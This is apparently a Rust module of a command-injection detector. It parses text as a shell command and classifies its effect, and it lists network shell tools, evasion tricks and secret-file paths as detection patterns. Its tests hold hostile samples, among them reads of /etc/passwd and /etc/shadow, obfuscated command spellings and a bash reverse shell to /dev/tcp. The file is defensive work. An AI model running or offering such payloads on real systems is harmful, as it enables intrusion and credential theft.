//! One simple command: its name, whether its arguments are such as it takes, and what it would do.

use crate::{
    paths::{Sensitivity, is_system_folder, sensitivity},
    shell::{
        cmdlet,
        glob::glob,
        table::{self, Entry, Takes},
        word::{Word, alternatives, blanks},
    },
};

/// Arguments that are looked at.
const ARGUMENTS: usize = 12;

/// What a command would do that matters.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Effect {
    /// Tells who and where the process is.
    Inform,
    /// Reads or lists folders of the system.
    Read,
    /// Writes a file.
    Write,
    /// Waits.
    Delay,
    /// Talks to another machine.
    Network,
    /// Reads a file of secrets.
    Secret,
    /// Runs code or opens a shell.
    Shell,
}

/// A simple command that was understood.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Command {
    /// Bytes up to the end of its last argument.
    pub len: usize,
    /// Its name is also a common word.
    pub common: bool,
    /// It is named by the path of its file.
    pub located: bool,
    /// Its name, or the blanks after it, are disguised.
    pub disguised: bool,
    /// An argument is a path of which parts are left to the shell.
    pub masked: bool,
    /// How many arguments it has.
    pub arguments: usize,
    /// Whether it takes such arguments.
    pub fits: bool,
    /// A separator, a closing quote or the end of the value follows.
    pub closed: bool,
    /// What it would do.
    pub effect: Option<Effect>,
    /// A word that runs another command stands before it.
    pub introduced: bool,
    /// It takes words of any kind, so that prose fits it as well.
    pub loose: bool,
    /// A shell or an interpreter that would read what is piped into it.
    pub interpreter: bool,
    /// A filter without a file to read: it can only repeat what it is given.
    pub idle: bool,
}

#[derive(Default)]
struct Arguments {
    count: usize,
    first: Kinds,
    any: Kinds,
    verb: bool,
    runs: bool,
    disguised: bool,
    redirected: bool,
    executes: bool,
    masked: bool,
    drive: bool,
    sensitive: Option<Sensitivity>,
    socket: bool,
}

/// What kinds of text an argument can be taken for.
#[derive(Clone, Copy, Default)]
struct Kinds {
    option: bool,
    path: bool,
    file: bool,
    number: bool,
    host: bool,
    url: bool,
}

/// Reads the simple command at the start of `rest`: a known command in command position. Words that only introduce
/// a command (`sudo`, `time`, `then`) are passed over.
pub(crate) fn command(rest: &[u8]) -> Option<Command> {
    let (mut at, mut disguised) = blanks(rest);
    let mut introduced = None;
    let (mut led, mut hollow) = (false, false);
    for _ in 0..6 {
        while matches!(rest.get(at), Some(b'(' | b'!' | b'@')) {
            at += 1;
        }
        let braced = rest.get(at) == Some(&b'{') && alternatives(rest.get(at..)?).is_none();
        at += usize::from(braced);
        let (gap, hidden) = blanks(rest.get(at..)?);
        at += gap;
        disguised |= hidden;
        let list = braced && gap == 0;
        let opened = list && rest.get(at) == Some(&b',');
        if opened {
            // `{,ifconfig}`
            at += 1;
        }
        let word = Word::read(rest.get(at..)?, list);
        if word.is_empty() && word.expands && word.len > 0 {
            // A variable that nobody set, or a name that the line itself has set: the command stands behind it.
            let (gap, _) = blanks(rest.get(at + word.len..)?);
            if gap == 0 {
                return introduced;
            }
            at += word.len + gap;
            hollow = true;
            continue;
        }
        if word.is_empty() {
            return introduced;
        }
        // `timeout 5 id`, `nice -n 5 id`: what the introducing word is told.
        let told = led
            && (number(word.bytes())
                || matches!(word.bytes(), [b'-', letter, ..] if letter.is_ascii_alphabetic()));
        if is_assignment(word.bytes()) || introduces(word.bytes()) || told {
            led |= !is_assignment(word.bytes());
            let alone = simple(rest, at, word, list, disguised);
            introduced = alone.filter(|command| command.fits).or(introduced);
            at += word.len;
            let (gap, hidden) = blanks(rest.get(at..)?);
            if gap == 0 {
                return introduced;
            }
            at += gap;
            disguised |= hidden;
            continue;
        }
        return simple(rest, at, word, list, disguised)
            .map(|command| Command {
                introduced: led,
                disguised: command.disguised || hollow,
                fits: command.fits
                    || (hollow && !command.common)
                    || (opened && command.closed && rest.get(command.len) == Some(&b'}')),
                ..command
            })
            .or(introduced);
    }
    introduced
}

/// Whether a command line stands in `text` already, at any word: a known command with an option.
pub(crate) fn holds_command(text: &[u8]) -> bool {
    let tail = text.get(text.len().saturating_sub(160)..).unwrap_or_default();
    let mut words = tail
        .split(|byte| matches!(byte, b' ' | b'\t' | b'\n' | b'>' | b'`' | b'"' | b'('))
        .filter(|word| !word.is_empty())
        .peekable();
    while let Some(word) = words.next() {
        let next = words.peek().copied().unwrap_or_default();
        let kinds = kinds(next, false);
        let plain =
            word.iter().all(|byte| byte.is_ascii_lowercase() || matches!(byte, b'-' | b'_' | b'.' | b'/'));
        if plain
            && word.first().is_some_and(u8::is_ascii_lowercase)
            && next.starts_with(b"-")
            && next.get(1).is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'-')
        {
            return true;
        }
        let Some(entry) = table::find(base_name(word)) else { continue };
        if !entry.common && !next.is_empty() && entry.takes != Takes::Little
            || kinds.option
            || kinds.path
            || kinds.file
            || kinds.url
        {
            return true;
        }
    }
    false
}

/// Whether the first word can be the start of a command line, from a few bytes of it.
pub(crate) fn may_start(bytes: &[u8]) -> bool {
    let rest = bytes.trim_ascii_start();
    let letters = rest
        .iter()
        .take(32)
        .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.'))
        .count();
    match (rest.first(), rest.get(letters)) {
        (Some(b'/'), _) => {
            rest.get(..rest.len().min(24)).unwrap_or_default().windows(4).any(|part| part == b"bin/")
                || rest.iter().take(24).any(|byte| matches!(byte, b'?' | b'*' | b'[' | b'\\'))
        }
        (Some(b'{' | b'\\' | b'$' | b'(' | b'!' | b'%' | b'"' | b'\'' | b'@' | b'^'), _) => true,
        // An assignment alone runs nothing; a command may stand behind it. Cookies and queries are full of them.
        (Some(_), Some(b'=')) => {
            const FAR: usize = 256;
            let value = rest.get(letters + 1..rest.len().min(FAR)).unwrap_or_default();
            let ends = |byte: &&u8| !matches!(**byte, b';' | b'&' | b'|' | b'\n' | b'\r');
            rest.len() > FAR
                || value
                    .iter()
                    .take_while(ends)
                    .any(|byte| !byte.is_ascii_alphanumeric() && !b"-_.:/%=,~*!@".contains(byte))
        }
        (Some(&first), next) => {
            table::may_be(first, letters)
                || (letters > 4
                    && rest.get(letters - 4..letters).is_some_and(|end| end.eq_ignore_ascii_case(b".exe")))
                || matches!(next, Some(b'\'' | b'"' | b'\\' | b'^' | b'$' | b'/' | b'=' | b':' | b'{'))
                || cmdlet(rest).is_some()
        }
        (None, _) => false,
    }
}

fn is_assignment(word: &[u8]) -> bool {
    let name = word.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
    name > 0 && word.get(name) == Some(&b'=')
}

fn introduces(word: &[u8]) -> bool {
    const WORDS: &[&[u8]] = &[
        b"sudo",
        b"time",
        b"nohup",
        b"env",
        b"exec",
        b"command",
        b"builtin",
        b"nice",
        b"busybox",
        b"xargs",
        b"eval",
        b"then",
        b"do",
        b"else",
        b"if",
        b"while",
        b"setsid",
        b"doas",
        b"stdbuf",
        b"unbuffer",
        b"start",
        b"call",
        b"until",
        b"watch",
        b"timeout",
        b"strace",
        b"ltrace",
    ];
    WORDS.iter().any(|known| known.eq_ignore_ascii_case(word))
}

fn simple(rest: &[u8], start: usize, word: Word, list: bool, disguised: bool) -> Option<Command> {
    let mut lower = [0; 96];
    let full = lower.get_mut(..word.bytes().len())?;
    full.copy_from_slice(word.bytes());
    full.make_ascii_lowercase();
    let name = base_name(full);
    // `cmd.exe`, without a folder.
    let program = name.len() + 4 == full.len() && full.ends_with(b".exe");
    let located = name.len() < full.len() && is_program_path(full);
    if name.len() < full.len() && !located && !word.globbed && !program || word.goes_on {
        return None;
    }
    let globbed_path = word.globbed && is_globbed_program(full);
    let entry = if globbed_path {
        Entry { takes: Takes::Anything, common: false }
    } else if word.globbed {
        return None;
    } else {
        let entry = table::find(name)?;
        // `Perl & Ruby`: as a sentence writes the name of a product. No shell of Unix knows it so.
        Entry { common: entry.common || is_title(word.bytes()), ..entry }
    };
    let mut at = start + word.len;
    let arguments = arguments(rest, &mut at, name, list);
    let (trailing, _) = blanks(rest.get(at..).unwrap_or_default());
    let closed = rest.get(at + trailing).is_none_or(|byte| {
        matches!(
            byte,
            b';' | b'|'
                | b'&'
                | b'\n'
                | b'\r'
                | b')'
                | b'`'
                | b'}'
                | b'\''
                | b'"'
                | b'#'
                | 0
                | b'>'
                | b'<'
                | b'\\'
        )
    });
    let effect = effect(name, entry, &arguments);
    Some(Command {
        len: at,
        common: entry.common && !located && !word.disguised,
        located,
        // A backslash before a word of ordinary texts is as likely one of TeX or of a regular expression.
        disguised: (word.disguised
            && !(entry.common && rest.get(start) == Some(&b'\\') && word.len == word.bytes().len() + 1))
            || disguised
            || arguments.disguised
            || (list && rest.get(at) == Some(&b'}'))
            || globbed_path,
        masked: arguments.masked,
        arguments: arguments.count,
        fits: fits(entry, &arguments, closed, located),
        closed,
        effect,
        introduced: false,
        loose: matches!(entry.takes, Takes::Anything | Takes::Verb) && !globbed_path,
        interpreter: entry.takes == Takes::Code && name != b"source",
        idle: effect.is_none() && table::filters(name) && !arguments.any.path && !arguments.any.file,
    })
}

/// Whether a word begins with a capital letter and goes on in small ones.
fn is_title(word: &[u8]) -> bool {
    word.split_first().is_some_and(|(first, rest)| {
        first.is_ascii_uppercase() && rest.len() > 1 && rest.iter().all(u8::is_ascii_lowercase)
    })
}

/// The last segment of a path, without the extensions of Windows programs.
fn base_name(full: &[u8]) -> &[u8] {
    let start = full.iter().rposition(|byte| matches!(byte, b'/' | b'\\')).map_or(0, |at| at + 1);
    let name = full.get(start..).unwrap_or_default();
    [b".exe".as_slice(), b".com", b".bat"].iter().find_map(|tail| name.strip_suffix(*tail)).unwrap_or(name)
}

/// `/usr/bin/`, `usr/bin/`, `C:\Windows\System32\`.
fn is_program_path(full: &[u8]) -> bool {
    [b"bin/".as_slice(), b"system32\\", b"system32/", b"\\bin\\"]
        .iter()
        .any(|part| memchr::memmem::find(full, part).is_some())
}

/// `/???/c?t`, `/bin/[c]at`: a pattern that the path of a program matches.
fn is_globbed_program(full: &[u8]) -> bool {
    let Some(path) = full.strip_prefix(b"/") else { return false };
    let mut segments = path.split(|byte| *byte == b'/').filter(|segment| !segment.is_empty());
    let first = segments.next().unwrap_or_default();
    let folders: &[&[u8]] = &[b"bin", b"sbin", b"usr", b"dev"];
    if !folders.iter().any(|folder| glob(first, folder)) {
        return false;
    }
    let last = segments.clone().next_back().unwrap_or_default();
    let plain = |byte: &u8| {
        byte.is_ascii_alphanumeric()
            || matches!(byte, b'?' | b'*' | b'[' | b']' | b'-' | b'!' | b'.' | b'_' | b'@' | b'$')
    };
    segments.count() <= 3 && !last.is_empty() && last.len() <= 24 && last.iter().all(plain)
}

/// `/[e]tc/pa?swd`, `c:\*\n??e*d.*?`: a path from its root, with single letters left open.
fn is_masked_path(word: &[u8]) -> bool {
    let rooted = word.first() == Some(&b'/') || matches!(word, [_, b':', b'\\' | b'/', ..]);
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"/\\:?*[]-_.!".contains(byte);
    rooted && word.iter().any(|byte| matches!(byte, b'?' | b'[')) && word.iter().all(plain)
}

fn arguments(rest: &[u8], at: &mut usize, name: &[u8], list: bool) -> Arguments {
    let mut found = Arguments::default();
    while found.count < ARGUMENTS {
        let (mut gap, mut hidden) = blanks(rest.get(*at..).unwrap_or_default());
        if list && rest.get(*at) == Some(&b',') {
            (gap, hidden) = (1, true);
        }
        let next = rest.get(*at + gap).copied();
        let redirection = redirection(rest.get(*at + gap..).unwrap_or_default());
        if redirection > 0 {
            *at += gap + redirection;
            found.redirected = true;
            let (gap, _) = blanks(rest.get(*at..).unwrap_or_default());
            let word = Word::read(rest.get(*at + gap..).unwrap_or_default(), list);
            found.look(word.bytes(), name);
            *at += gap + word.len;
            continue;
        }
        if gap == 0
            || next.is_none_or(|byte| {
                matches!(byte, b';' | b'|' | b'&' | b'\n' | b'\r' | b')' | b'`' | b'#' | 0)
            })
        {
            break;
        }
        let word = Word::read(rest.get(*at + gap..).unwrap_or_default(), list);
        if word.len == 0 {
            *at += gap;
            break;
        }
        // `${x//a/b}`, and a path of which single letters are left open: spelled so to pass unread.
        let masked = word.masked || (word.globbed && is_masked_path(word.bytes()));
        found.disguised |= hidden;
        found.masked |= masked;
        found.count += 1;
        let kinds = kinds(word.bytes(), word.globbed || masked);
        if found.count == 1 {
            found.first = kinds;
            found.verb = table::is_verb(name, word.bytes());
        }
        found.look(word.bytes(), name);
        found.any = Kinds {
            option: found.any.option || kinds.option,
            path: found.any.path || kinds.path,
            file: found.any.file || kinds.file,
            number: found.any.number || kinds.number,
            host: found.any.host || kinds.host,
            url: found.any.url || kinds.url,
        };
        *at += gap + word.len;
    }
    found
}

impl Arguments {
    fn look(&mut self, word: &[u8], name: &[u8]) {
        const RUNS: &[&[u8]] = &[
            b"-c",
            b"-e",
            b"-i",
            b"-r",
            b"-enc",
            b"-ec",
            b"/c",
            b"/k",
            b"-ic",
            b"-command",
            b"-encodedcommand",
            b"-nop",
            b"-lc",
            b"-pe",
            b"-ne",
            b"-w",
            b"-exec",
            b"-ep",
            b"-noprofile",
            b"-f",
            b"-p",
            b"-o",
            b"-wrapper",
        ];
        let mut slashed = [0; 96];
        let Some(slot) = slashed.get_mut(..word.len()) else { return };
        for (to, from) in slot.iter_mut().zip(word) {
            *to = if *from == b'\\' { b'/' } else { *from };
        }
        self.sensitive =
            self.sensitive.max(sensitivity(slot)).max(slot.strip_prefix(b"@").and_then(sensitivity));
        if is_system_folder(slot) {
            self.sensitive = self.sensitive.max(Some(Sensitivity::System));
        }
        self.runs |= matches!(word.first(), Some(b'-' | b'/'))
            && RUNS.iter().any(|known| known.eq_ignore_ascii_case(word))
            || (name == b"find" && word == b"-exec");
        self.executes |= matches!(word, b"-exec" | b"-execdir" | b"-ok" | b"-delete");
        self.drive |=
            matches!(word, [letter, b':'] | [letter, b':', b'\\' | b'/', ..] if letter.is_ascii_alphabetic());
        self.socket |= word.contains(&b'/')
            && (memchr::memmem::find(word, b"/dev/tcp/").is_some()
                || memchr::memmem::find(word, b"/dev/udp/").is_some());
    }
}

/// `>`, `2>&1`, `<<<`: how many bytes, without the target.
fn redirection(rest: &[u8]) -> usize {
    let number = rest.iter().take(2).take_while(|byte| byte.is_ascii_digit()).count();
    let arrows = rest.iter().skip(number).take(3).take_while(|byte| matches!(byte, b'<' | b'>')).count();
    if arrows == 0 || rest.get(number + arrows) == Some(&b'(') {
        return 0;
    }
    number + arrows + usize::from(rest.get(number + arrows) == Some(&b'&'))
}

fn kinds(word: &[u8], globbed: bool) -> Kinds {
    let first = word.first().copied().unwrap_or_default();
    let drive = matches!(word, [letter, b':', ..] if letter.is_ascii_alphabetic());
    let url = word.contains(&b':') && memchr::memmem::find(word, b"://").is_some();
    let dot = word.iter().position(|byte| *byte == b'.');
    let after_dot = dot.and_then(|at| word.get(at + 1)).is_some_and(u8::is_ascii_alphanumeric);
    let plain = word
        .iter()
        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_' | b':' | b'/' | b'@'));
    Kinds {
        option: matches!(first, b'-' | b'+') && word.len() > 1,
        path: matches!(first, b'/' | b'~' | b'\\')
            || (first == b'%' && word.contains(&b'\\'))
            || drive
            || word.starts_with(b"./")
            || word.starts_with(b"..")
            || word == b"."
            || globbed,
        file: (after_dot && dot != Some(0) && plain) || (word.contains(&b'/') && plain),
        number: number(word),
        host: (after_dot && dot != Some(0) && plain) || word.eq_ignore_ascii_case(b"localhost") || url,
        url,
    }
}

/// `5`, `0.5`, `10s`.
fn number(word: &[u8]) -> bool {
    let digits = word.iter().take_while(|byte| byte.is_ascii_digit() || **byte == b'.').count();
    digits > 0
        && (digits == word.len()
            || (digits + 1 == word.len() && matches!(word.last(), Some(b's' | b'm' | b'h' | b'd'))))
}

fn fits(entry: Entry, arguments: &Arguments, closed: bool, located: bool) -> bool {
    let Arguments { count, first, any, .. } = *arguments;
    let loose = !entry.common || located;
    match entry.takes {
        Takes::Little => {
            (count == 0 && closed)
                || first.option
                || first.path
                || arguments.verb
                || (count == 1 && arguments.redirected && loose)
        }
        Takes::Path => {
            (loose && (any.option || any.path || any.file || (located && count == 0)))
                || any.path
                || (arguments.redirected && count == 0)
                || first.option
                || (any.file && count == 1 && closed)
                || arguments.sensitive.is_some()
        }
        Takes::Number => {
            (first.number && count == 1 && closed) || ((first.option || first.path) && any.number)
        }
        Takes::Host => {
            any.host
                || (first.option && count > 1)
                || (first.path && count > 1)
                || (any.file && loose)
                || (located && count == 0)
        }
        Takes::Code => {
            (count == 0 && closed)
                || first.option
                || first.path
                || arguments.runs
                || arguments.verb
                || (any.file && loose)
        }
        // The tools of a family take verbs that nobody can list; one with a hyphen in its name is no word of a text.
        Takes::Anything => {
            count > 0 && (closed || entry.common) && (count < 4 || entry.common)
                || arguments.redirected
                || (count == 0 && closed && !entry.common)
        }
        Takes::Verb => arguments.verb,
    }
}

fn effect(name: &[u8], entry: Entry, arguments: &Arguments) -> Option<Effect> {
    const INFORM: &[&[u8]] = &[
        b"id",
        b"whoami",
        b"uname",
        b"ifconfig",
        b"ipconfig",
        b"systeminfo",
        b"netstat",
        b"env",
        b"printenv",
        b"tasklist",
        b"getmac",
        b"lsb_release",
        b"hostname",
        b"ps",
        b"pwd",
        b"arp",
    ];
    if arguments.socket {
        return Some(Effect::Shell);
    }
    match (arguments.sensitive, entry.takes) {
        (
            Some(Sensitivity::Secret),
            Takes::Path | Takes::Little | Takes::Host | Takes::Anything | Takes::Code,
        ) => {
            return Some(Effect::Secret);
        }
        (Some(Sensitivity::System), Takes::Path | Takes::Little | Takes::Anything) => {
            return Some(Effect::Read);
        }
        _ => {}
    }
    match entry.takes {
        Takes::Code if arguments.runs => Some(Effect::Shell),
        Takes::Path if name == b"find" && arguments.executes => Some(Effect::Shell),
        // A name for a command line, or one that runs later: neither has another use.
        Takes::Verb if matches!(name, b"alias" | b"trap" | b"at") && arguments.verb => Some(Effect::Shell),
        // The files of a drive.
        Takes::Little | Takes::Path if arguments.drive => Some(Effect::Read),
        Takes::Host
            if matches!(
                name,
                b"nc"
                    | b"ncat"
                    | b"socat"
                    | b"mshta"
                    | b"certutil"
                    | b"bitsadmin"
                    | b"rundll32"
                    | b"regsvr32"
            ) =>
        {
            (arguments.any.option || arguments.any.host).then_some(Effect::Shell)
        }
        Takes::Host if arguments.any.host || arguments.any.url => Some(Effect::Network),
        Takes::Number if name != b"kill" && arguments.any.number => Some(Effect::Delay),
        Takes::Verb
            if arguments.verb && (arguments.any.option || arguments.any.path || arguments.count > 3) =>
        {
            Some(Effect::Read)
        }
        _ if arguments.redirected => Some(Effect::Write),
        _ if INFORM.contains(&name) => Some(Effect::Inform),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn effect_of(text: &str) -> Option<Effect> {
        command(text.as_bytes()).filter(|command| command.fits).and_then(|command| command.effect)
    }

    #[test]
    fn commands_are_known_by_what_they_would_do() {
        assert_eq!(effect_of("cat /etc/passwd"), Some(Effect::Secret));
        assert_eq!(effect_of(" sudo   sleep 5"), Some(Effect::Delay));
        assert_eq!(effect_of("{cat,/etc/passwd}"), Some(Effect::Secret));
        assert_eq!(effect_of("cat${IFS}/etc/shadow"), Some(Effect::Secret));
        assert_eq!(effect_of("A=1 curl http://192.0.2.1/x"), Some(Effect::Network));
        assert_eq!(effect_of("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), Some(Effect::Shell));
        assert_eq!(effect_of("/bin/c'a't /etc/hosts"), Some(Effect::Secret));
        assert_eq!(effect_of("net user eve pw /add"), Some(Effect::Read));
    }

    #[test]
    fn arguments_must_be_such_as_the_command_takes() {
        for text in [
            "sleep well my dear",
            "cat and dog",
            "ping me later",
            "find the cat",
            "id est",
            "net income",
            "sort by price",
            "ls has no plural",
        ] {
            assert!(!command(text.as_bytes()).is_some_and(|command| command.fits), "{text}");
        }
    }
}
